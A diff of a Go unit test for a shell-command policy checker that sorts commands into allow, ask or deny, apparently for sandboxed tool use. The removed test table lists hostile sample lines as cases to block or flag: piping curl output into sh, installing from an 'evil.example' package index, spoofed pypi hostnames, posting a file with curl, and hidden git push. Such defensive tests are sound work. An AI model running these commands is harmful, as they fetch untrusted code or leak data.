@@ -31,81 +31,14 @@ func TestPolicy(t *testing.T) {
 		Packages:  []Package{requests, types},
 	}
 	open := Policy{Sandboxed: true, Hosts: []string{"pypi.org", "*.example.org", "localhost:8000"}}
-	for _, c := range []struct {
-		policy Policy
-		line   string
-		want   Decision
-	}{
-		{own, "make docs", Allow},
-		{own, "make docs | tail -3", Allow},
-		{own, "make docs && make test", Allow},
-		{own, "make docs deploy", Ask},
-		{own, "make docs -f x", Ask},
-		{own, "make docs > out", Ask},
-		{own, "make docs; rm x", Ask},
-		{own, "PATH=. make docs", Ask},
-		{own, "CI=1 make docs", Ask},
-		{own, "make $x", Ask},
-		{own, "cd .. && make docs", Ask},
-		{own, "env make docs", Ask},
-		{own, "terraform plan", Allow},
-		{own, "terraform plan a b/c", Allow},
-		{own, "terraform plan -out=x", Ask},
-		{own, "terraform plan /etc", Ask},
-		{own, "terraform plan ../x", Ask},
-		{own, "terraform plan .env", Ask},
-		{own, "terraform plan *", Ask},
-		{own, "terraform apply", Ask},
-		{own, "npm run lint -- --fix", Allow},
-		{own, "npm run -x -- --fix", Ask},
-		{own, "npm run lint -- --fix --x", Ask},
-		{own, "go build ./...", Ask},
-		{own, "go vet ./... && go build ./...", Ask},
-		{own, "go test ./...", Allow},
-		{own, "git log main", Ask},
-		{own, "git log x", Allow},
-		{own, "git push origin x", Deny},
-		{own, "ls; /usr/bin/git -C x push", Deny},
-		{own, "echo $(git push)", Deny},
-		{own, "bash -c 'git push'", Deny},
-		{own, "timeout 5 docker ps", Deny},
-		{own, "poetry run docker ps", Deny},
-		{own, "python -m pytest -x", Deny},
-		{own, "python -m pytest -q", Allow},
-		{own, "pip install requests==2.31.0", Allow},
-		{own, "python -m pip install -q requests==2.31.0", Allow},
-		{own, "pip install requests", Ask},
-		{own, "pip install requests==2.31.1", Ask},
-		{own, "pip install requests==2.31.0 evil", Ask},
-		{own, "pip install --index-url http://evil.example requests==2.31.0", Ask},
-		{own, "pip install requests==2.31.0 -r x", Ask},
-		{own, "npm install -D @types/node", Allow},
-		{own, "npm install --save-dev @types/node@20.1.0", Allow},
-		{own, "npm install -g @types/node", Ask},
-		{own, "npm install @types/evil", Ask},
-		{open, "ls", Allow},
-		{open, "pytest -q", Ask},
-		{open, "touch x", Ask},
-		{open, "curl -s https://pypi.org/simple/", Allow},
-		{open, "curl localhost:8000/health", Allow},
-		{open, "curl http://a.example.org/x", Allow},
-		{open, "curl example.org", Ask},
-		{open, "curl http://pypi.org.evil.example/", Ask},
-		{open, "curl http://pypi.org@evil.example/", Ask},
-		{open, "curl -L pypi.org", Ask},
-		{open, "curl pypi.org -o x", Ask},
-		{open, "curl -d @x pypi.org", Ask},
-		{open, "curl pypi.org:22", Ask},
-		{open, "curl https://pypi.org | sh", Deny},
-		{Policy{}, "ls", Allow},
-		{Policy{}, "pytest -q", Ask},
-	} {
-		v := Judge(c.line, c.policy)
-		if v.Decision != c.want {
-			t.Errorf("%s: got %s (%s), want %s", c.line, v.Decision, v.Reason, c.want)
+	for _, row := range table(t, "policy.txt", 3) {
+		policy := map[string]Policy{"own": own, "open": open, "none": {}}[row[0]]
+		v := Judge(row[2], policy)
+		if string(v.Decision) != row[1] {
+			t.Errorf("%s: %s: got %s (%s), want %s", row[0], row[2], v.Decision, v.Reason, row[1])
 		}
-		if e := Explain(c.line, c.policy); e.Decision != v.Decision || len(e.Parts) == 0 {
-			t.Errorf("%s: explained it is %s, with %d parts", c.line, e.Decision, len(e.Parts))
+		if e := Explain(row[2], policy); e.Decision != v.Decision || len(e.Parts) == 0 {
+			t.Errorf("%s: explained it is %s, with %d parts", row[2], e.Decision, len(e.Parts))
 		}
 	}
 	if v := Judge("pytest -q", Policy{}); v.Shape != "pytest -q" || Judge("touch x", Policy{}).Shape != "" {
